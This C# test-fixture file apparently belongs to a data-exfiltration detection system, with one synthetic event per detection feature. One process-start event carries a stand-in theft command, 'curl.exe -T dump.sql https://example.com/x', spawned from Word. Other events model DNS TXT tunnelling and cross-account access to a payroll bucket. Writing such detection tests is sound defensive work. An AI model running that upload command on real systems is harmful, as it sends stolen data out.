using Det0131.Models.Context;
using Det0131.Models.Events;

namespace Det0131.Models.Tests.Features;

/// <summary>One minimal event for each feature, what it must tell, and what to take away so that it tells nothing.</summary>
public sealed record FeatureCase(SecurityEvent Event, Told[] Expected, Action<SecurityEvent> Without);

/// <summary>Written by hand from the feature table of the design, independent of the observers.</summary>
public static class FeatureCases
{
    /// <summary>2026-08-03 14:20 UTC, a Monday: 16:20 in Amsterdam.</summary>
    public const long Time = 1_785_766_800_000_000;

    private const int LocalDate = 20_668;
    private const string Principal = "arn:aws:iam::111122223333:user/alice";

    public static readonly SiteContext Site = new()
    {
        LocalNetworks = ["10.0.0.0/8"],
        Assets =
        [
            new Asset("pc7", Platform.Windows, TimeZone: "Europe/Amsterdam", Addresses: [new AddressAlias("10.0.0.7")]),
            new Asset("esx1", Platform.ESXi, Addresses: [new AddressAlias("10.0.0.20")]),
        ],
    };

    public static readonly IReadOnlyDictionary<string, FeatureCase> All = new Dictionary<string, FeatureCase>
    {
        ["protocol.host"] = new(Flow(), [Value("host:pc7", "", "ssl/443")], e => (e.Application, e.DestinationPort) = (null, null)),
        ["protocol.user"] = new(Flow(), [Value("user:ann", "", "ssl/443")], e => e.User = null),
        ["protocol.port_mismatch"] = new(Flow(), [Value("host:pc7", "443", "ssl")], e => e.Application = null),
        ["lineage.parent_child"] = new(Start(), [Value("host:pc7", "winword.exe", "curl.exe")], e => e.Parent = null),
        ["lineage.transfer_tool"] = new(Start(), [Value("host:pc7", "curl", "winword.exe")], e => e.Tool = null),
        ["lineage.process_protocol"] = new(Flow(), [Value("host:pc7", "curl.exe", "ssl/443")], e => e.Process = null),
        ["command.tool"] = new(Start(), [Value("host:pc7", "winword.exe>curl.exe", "curl")], e => e.CommandLine = null),
        ["command.verb"] = new(Start(), [Value("host:pc7", "winword.exe>curl.exe", "upload-file>address")], e => e.CommandLine = null),
        ["command.token"] = new(Start(), [.. new[] { "curl.exe", "-t", "dump.sql", "<url>" }.Select(w => Value("host:pc7", "winword.exe>curl.exe", w))], e => e.CommandLine = null),
        ["user.tool"] = new(Start(), [Value("user:ann", "", "curl")], e => e.Tool = null),
        ["user.privilege"] = new(Start(), [Value("user:ann", "", "ann>admin")], e => e.User = null),
        ["user.service_account"] = new(Start(UserClass.Service), [Value("user:ann@pc7", "", "winword.exe>curl")], e => e.UserClass = UserClass.Person),
        ["time.user"] = new(Flow(), [new Told("hour", "user:ann", "", "16", LocalDate)], e => e.User = null),
        ["time.host"] = new(Flow(), [new Told("hour", "host:pc7", "", "16", LocalDate)], e => (e.SourceAddress, e.Host) = (null, null)),
        ["destination.country"] = new(Flow(), Both("NL"), e => e.DestinationCountry = null),
        ["destination.network"] = new(Flow(), Both("AS64500 EXAMPLE"), e => e.DestinationNetwork = null),
        ["destination.domain"] = new(Flow(), Both("example.com"), e => e.RegisteredDomain = null),
        ["volume.flow"] = new(Flow(), [new Told("magnitude", "host:pc7", "ssl/443", "", 5_000)], e => e.SourceBytes = null),
        ["volume.ratio"] = new(Flow(), [new Told("magnitude", "host:pc7", "ssl/443", "", 5_100 / 200.0)], e => e.DestinationBytes = null),
        ["volume.hour"] = new(Flow(), [Sum("", 5_000)], e => e.SourceBytes = null),
        ["volume.day"] = new(Flow(), [Sum("", 5_000)], e => e.SourceBytes = null),
        ["volume.destination_week"] = new(Flow(), [Sum("example.com", 5_000)], e => e.SourceBytes = null),
        ["volume.series"] = new(Flow(), [Sum("", 5_000)], e => e.SourceBytes = null),
        ["file.extension"] = new(File(), [Value("user:ann", "", ".sql")], e => e.FileExtension = null),
        ["file.sensitive_volume"] = new(File(), [new Told("sum", "user:ann", "", "", 700)], e => e.FileBytes = null),
        ["dns.information"] = new(Query(), [Sum("example.com", 15)], e => e.DnsName = null),
        ["dns.information_hour"] = new(Query(), [Sum("example.com", 15)], e => e.DnsName = null),
        ["dns.information_day"] = new(Query(), [Sum("example.com", 15)], e => e.DnsName = null),
        ["dns.name_bits"] = new(Query(), [new Told("magnitude", "host:pc7", "example.com", "", 15)], e => e.DnsName = "#1a2b3c4d"),
        ["dns.type"] = new(Query(), [Value("host:pc7", "", "TXT")], e => e.DnsType = null),
        ["dns.rate"] = new(Query(), [Sum("example.com", 1)], e => e.DnsName = null),
        ["dns.answer_ratio"] = new(Flow("dns", 53), [new Told("magnitude", "host:pc7", "", "", 50)], e => e.DestinationBytes = null),
        ["dns.session_duration"] = new(Query(), [new Told("span", "host:pc7", "", "", 0)], e => e.DnsName = null),
        ["http.post_burst"] = new(Post(), [Sum("", 1)], e => e.HttpMethod = null),
        ["cloud.action_role"] = new(Call(), [Value("role:backup", "", "s3:GetObject")], e => e.CloudAction = null),
        ["cloud.role_principal"] = new(Call(), [Value("user:" + Principal, "", "backup")], e => (e.CloudPrincipal, e.User, e.CloudRole) = (null, null, null)),
        ["cloud.resource_role"] = new(Call(), [Value("role:backup", "", "arn:aws:s3:::payroll")], e => e.CloudResource = null),
        ["cloud.user_agent"] = new(Call(), [Value("user:" + Principal, "", "aws-cli/2")], e => e.UserAgent = null),
        ["cloud.cross_account"] = new(Call(), [Value("user:" + Principal, "s3:GetObject", "444455556666")], e => e.CloudAction = null),
        ["hypervisor.destination"] = new(Hypervisor(), [Value("host:esx1", "hostd", "ssl/443>example.com")], e => e.Process = null),
        ["hypervisor.command"] = new(Shell(), [Value("user:root@esx1", "", "vim-cmd")], e => e.Process = null),
    };

    public static SecurityEvent Flow(string application = "ssl", int port = 443) => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.NetworkFlow, Platform = Platform.Windows, Host = "pc7", HostSide = HostSide.Source,
        User = "ann", UserClass = UserClass.Person, Process = "curl.exe", Transport = "tcp", Application = application,
        SourceAddress = "10.0.0.7", DestinationAddress = "203.0.113.9", DestinationPort = port, Domain = "www.example.com", RegisteredDomain = "example.com",
        DestinationCountry = "NL", DestinationNetwork = "AS64500 EXAMPLE", SourceBytes = 5_000, DestinationBytes = 100,
    };

    public static SecurityEvent Start(UserClass userClass = UserClass.Person) => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.ProcessStart, Platform = Platform.Windows, Host = "pc7", User = "ann", UserClass = userClass,
        PrivilegeChange = "ann>admin", Process = "curl.exe", Parent = "winword.exe", Tool = "curl", Verb = "upload-file",
        CommandLine = "curl.exe -T dump.sql https://example.com/x", Domain = "example.com", RegisteredDomain = "example.com", Application = "https",
    };

    public static SecurityEvent Query() => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.DnsQuery, Platform = Platform.Windows, Host = "pc7", HostSide = HostSide.Source,
        SourceAddress = "10.0.0.7", DestinationAddress = "10.0.0.53", DestinationPort = 53, DnsName = "abc.example.com", RegisteredDomain = "example.com", DnsType = "TXT",
    };

    public static SecurityEvent Post() => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.HttpRequest, Platform = Platform.Windows, Host = "pc7", HostSide = HostSide.Source, HttpMethod = "POST",
        SourceAddress = "10.0.0.7", DestinationAddress = "203.0.113.9", DestinationPort = 80, Application = "http", Domain = "www.example.com", RegisteredDomain = "example.com",
    };

    public static SecurityEvent File() => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.FileAccess, Platform = Platform.Windows, Host = "pc7", User = "ann", UserClass = UserClass.Person,
        Process = "curl.exe", Tool = "curl", FilePath = @"C:\d\dump.sql", FileExtension = ".sql", FileBytes = 700,
    };

    public static SecurityEvent Call() => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.CloudApiCall, Platform = Platform.IaaS, User = "alice", UserClass = UserClass.CloudRole, CloudAction = "s3:GetObject",
        CloudRole = "backup", CloudPrincipal = Principal, CloudResource = "arn:aws:s3:::payroll", CloudAccount = "111122223333", ForeignAccount = "444455556666",
        UserAgent = "aws-cli/2", SourceAddress = "203.0.113.50", SourceCountry = "NL", DestinationBytes = 9_000, Outcome = Outcome.Success,
    };

    private static SecurityEvent Hypervisor()
    {
        var e = Flow();
        (e.Platform, e.Host, e.SourceAddress, e.Process, e.User) = (Platform.ESXi, "esx1", "10.0.0.20", "hostd", null);
        return e;
    }

    private static SecurityEvent Shell() => new()
    {
        TimeMicros = Time, Source = "test", Kind = EventKind.ProcessStart, Platform = Platform.ESXi, Host = "esx1", User = "root", UserClass = UserClass.System, Process = "vim-cmd",
    };

    private static Told Value(string entity, string scope, string value) => new("value", entity, scope, value, 0);

    private static Told Sum(string scope, double sum) => new("sum", "host:pc7", scope, "", sum);

    private static Told[] Both(string value) => [Value("host:pc7", "", value), Value("user:ann", "", value)];
}
